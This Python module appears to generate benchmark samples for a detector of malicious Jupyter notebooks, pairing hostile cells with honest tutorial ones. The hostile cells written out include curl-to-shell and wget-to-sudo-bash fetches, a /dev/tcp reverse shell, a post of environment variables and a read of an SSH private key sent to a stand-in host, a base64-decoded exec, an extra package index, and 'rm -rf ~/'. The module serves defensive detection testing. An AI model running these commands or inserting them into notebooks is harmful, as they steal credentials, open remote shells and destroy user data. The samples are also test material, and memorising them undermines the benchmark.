"""Notebooks in a release: commands, decoded code and installs, and honest tutorials."""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

import json
from typing import TYPE_CHECKING

from benchmarks.detection.families import code_commands
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

# In two parts: no file of the project names a package index to use.
_INDEX = "index-" + "url"

HOSTILE: dict[str, tuple[str, list[str]]] = {
    "curl-shell": ("fetches and runs", ["!curl -s http://assay.invalid/i.sh | sh"]),
    "bash-cell": (
        "a cell for bash",
        ["%%bash\nset -e\nwget -qO- http://assay.invalid/i | sudo bash\n"],
    ),
    "reverse-shell": (
        "a shell for a stranger",
        ["!bash -i >& /dev/tcp/assay.invalid/4444 0>&1"],
    ),
    "other-index": (
        "another index",
        [f"%pip install torch --extra-{_INDEX} https://assay.invalid/simple"],
    ),
    "exec-decoded": (
        "decoded and run",
        ["import base64", "exec(base64.b64decode('cHJpbnQoJ2Fzc2F5Jyk='))"],
    ),
    "names-in-pieces": (
        "names in pieces over two cells",
        ["part = 'sys' + 'tem'", "import os\ngetattr(os, part)('echo assay')"],
    ),
    "sends-environment": (
        "sends the environment",
        [
            "import os, requests\nrequests.post('https://assay.invalid', json=dict(os.environ))"
        ],
    ),
    "reads-keys": ("reads keys", ["key = open('/home/user/.ssh/id_rsa').read()"]),
    "broken-cell": (
        "a break that blinds parsers",
        ["print 'x'\n!echo YXNzYXk= | base64 -d | bash"],
    ),
    "system-magic": ("a magic", ["%system curl http://assay.invalid/x | python3"]),
    "assigned-command": (
        "a command whose output is kept",
        ["out = !curl http://assay.invalid/x | sh"],
    ),
    "get-ipython": (
        "IPython's own function",
        ["get_ipython().system('curl http://assay.invalid/x | sh')"],
    ),
    "wipes": ("wipes a home", ["!rm -rf ~/"]),
}
HONEST: dict[str, list[str]] = {
    "tutorial": [
        "!pip install -q transformers accelerate\n!nvidia-smi",
        "from transformers import pipeline\npipe = pipeline('text-generation')",
        "pipe('Hello')[0]",
    ],
    "magics": [
        "%load_ext autoreload\n%autoreload 2\n%matplotlib inline",
        "%%time\nimport torch\nx = torch.ones(2)\nx?",
        "%pip install --upgrade datasets",
    ],
    "shell": [
        "!git clone https://github.com/example/model\n%cd model\n!ls -la",
        "%%bash\nmkdir -p data\npython train.py --epochs 3\n",
        "!wget https://example.org/data.zip -O data.zip && unzip -q data.zip",
    ],
    "images": [
        (
            "import requests\nfrom PIL import Image\n"
            "Image.open(requests.get('https://example.org/a.png', stream=True).raw)"
        ),
    ],
    "evaluation": [
        "import json, os\nwith open('results.json', 'w') as f:\n    json.dump({}, f)",
        "model.eval()\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'",
    ],
    "cuda-wheels": [
        f"!pip install torch --{_INDEX} https://download.pytorch.org/whl/cu121",
    ],
}
PLOT = "<div id='p'></div><script src='https://cdn.plot.ly/plotly-2.js'></script>"


def _notebook(cells: list[str], *, output: str = "") -> bytes:
    made: list[dict[str, object]] = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Example\n"]}
    ]
    for text in cells:
        outputs: list[object] = []
        if output:
            data = {"text/html": [output]}
            outputs = [{"output_type": "display_data", "metadata": {}, "data": data}]
        cell: dict[str, object] = {"cell_type": "code", "execution_count": 1}
        source = text.splitlines(keepends=True)
        cell.update(metadata={}, outputs=outputs, source=source)
        made.append(cell)
    value = {"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(value, indent=1).encode()


def samples() -> Iterator[Sample]:
    """Give notebooks by technique."""
    for name, (technique, cells) in HOSTILE.items():
        yield Sample(
            name=name,
            family="code-notebooks",
            technique=technique,
            truth=Truth.HOSTILE,
            files={"demo.ipynb": _notebook(cells)},
        )
    for name, cells in code_commands.CELLS.items():
        yield Sample(
            name=f"more-{name}",
            family="code-notebooks",
            technique=name.replace("-", " "),
            truth=Truth.HOSTILE,
            files={"demo.ipynb": _notebook(cells)},
        )
    for name, cells in HONEST.items():
        yield Sample(
            name=f"honest-{name}",
            family="code-notebooks",
            technique="none",
            truth=Truth.HONEST,
            files={"demo.ipynb": _notebook(cells, output=PLOT)},
        )
